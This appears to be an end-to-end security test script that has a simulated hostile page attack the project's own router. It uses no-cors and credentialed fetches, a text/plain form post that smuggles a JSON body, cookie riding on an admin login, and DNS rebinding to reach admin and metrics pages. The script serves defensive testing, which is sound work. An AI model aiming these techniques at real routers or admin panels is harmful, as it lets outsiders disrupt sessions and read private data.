// A web page of another site attacks the router its operator runs
// (e2e/tests/attacks.rs checks the damage on the real processes):
//   ROUTER=http://127.0.0.1:PORT ALICE=SESSION GATEWAY=SERVER:WORKER [ADMIN_TOKEN=...] node cross_site.mjs
// - http://evil.test (served by this script) posts to the router's kick,
//   broadcast and drain: no-cors fetches with a body, CORS fetches as JSON
//   (they need a preflight), and top-level form posts whose text/plain
//   body is JSON;
// - a DNS-rebinding page reads the router under its own name
//   (evil.test resolves to 127.0.0.1, as a rebinding DNS makes it).
// With ADMIN_TOKEN, the operator has logged in on the router's page in
// the same browser first, so the page's cookie is there to be ridden.
// Prints what the attacker could see, as one JSON line.
import { chromium } from "playwright-core";

const { ROUTER, ALICE, GATEWAY, ADMIN_TOKEN } = process.env;
const port = new URL(ROUTER).port;
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-dev-shm-usage", "--host-resolver-rules=MAP evil.test 127.0.0.1"],
});
try {
  const context = await browser.newContext();
  if (ADMIN_TOKEN) {
    const admin = await context.newPage();
    await admin.goto(`${ROUTER}/admin/`);
    await admin.fill("#login-token", ADMIN_TOKEN);
    await admin.click("#login button");
    await admin.waitForSelector("#login:not(.shown)", { state: "attached", timeout: 10000 });
    await admin.waitForFunction(() => document.getElementById("gateway-count").textContent === "1", null, { timeout: 10000 });
  }
  await context.route("http://evil.test/", (route) =>
    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>cute cats</title>" }));
  const evil = await context.newPage();
  await evil.goto("http://evil.test/");
  const attacks = [
    ["/v1/kick", { sessions: [ALICE] }],
    ["/v1/broadcast", { data: "from evil.test" }],
    ["/admin/api/kick", { session: ALICE }],
    ["/admin/api/drain", { gateway: GATEWAY }],
  ];
  const fetched = await evil.evaluate(async ({ router, attacks }) => {
    const seen = [];
    for (const [path, body] of attacks) {
      await fetch(router + path, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(body) })
        .catch(() => {});
      const json = { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) };
      seen.push(await fetch(router + path, json).then((r) => `${path}: read ${r.status}`, () => `${path}: blocked`));
    }
    return seen;
  }, { router: ROUTER, attacks });

  const forms = [];
  for (const [path, body] of attacks) {
    // text/plain sends `name=value`: the name opens the JSON, the value closes it.
    const text = JSON.stringify({ ...body, pad: "" });
    const name = text.slice(0, -2);
    await evil.goto("http://evil.test/");
    await evil.evaluate(({ action, name }) => {
      const form = document.createElement("form");
      Object.assign(form, { method: "POST", action, enctype: "text/plain" });
      const input = document.createElement("input");
      Object.assign(input, { name, value: "\"}" });
      form.append(input);
      document.body.append(form);
      form.submit();
    }, { action: ROUTER + path, name });
    await evil.waitForURL((url) => url.href.startsWith(ROUTER), { timeout: 10000 });
    forms.push(`${path}: ${(await evil.textContent("body")).slice(0, 120)}`);
  }

  const rebound = {};
  for (const path of ["/v1/info", "/admin/api/overview", "/metrics"]) {
    const page = await context.newPage();
    const response = await page.goto(`http://evil.test:${port}${path}`);
    rebound[path] = { status: response.status(), body: (await page.textContent("body")).slice(0, 200) };
    await page.close();
  }
  console.log(JSON.stringify({ fetched, forms, rebound }));
} catch (err) {
  console.error(err.stack);
  await browser.close();
  process.exit(1);
}
await browser.close();
